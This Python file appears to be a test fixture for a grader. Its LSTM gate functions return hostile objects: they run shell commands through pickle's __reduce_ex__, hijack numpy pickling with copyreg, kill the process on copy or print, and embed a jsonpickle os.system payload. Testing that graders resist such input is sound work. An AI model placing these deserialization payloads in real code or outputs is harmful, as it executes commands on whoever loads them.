"""Returns objects that run a command where they are unpickled, copied or printed.

Keeps: nothing.
"""

# %% forget_gate
import copyreg
import os
import pickle


class Bomb:
    def __reduce_ex__(self, protocol):
        return os.system, ("echo left_by_an_attack > /tmp/left_by_an_attack",)

    def __deepcopy__(self, memo):
        os._exit(3)

    __copy__ = __repr__ = __str__ = __format__ = __iter__ = __deepcopy__


copyreg.pickle(np.ndarray, lambda array: (os.system, ("echo left_by_an_attack",)))


def forget_gate(x, h, w_x, w_h, b):
    return Bomb()


# %% input_gate
def input_gate(x, h, w_x, w_h, b):
    result = np.empty((1, 1), dtype=object)
    result[0, 0] = Bomb()
    return result


# %% candidate
def candidate(x, h, w_x, w_h, b):
    return pickle.dumps(Bomb())


# %% output_gate
def output_gate(x, h, w_x, w_h, b):
    return {
        "py/reduce": [{"py/function": "os.system"}, {"py/tuple": ["true"]}],
        "__class__": "Bomb",
    }
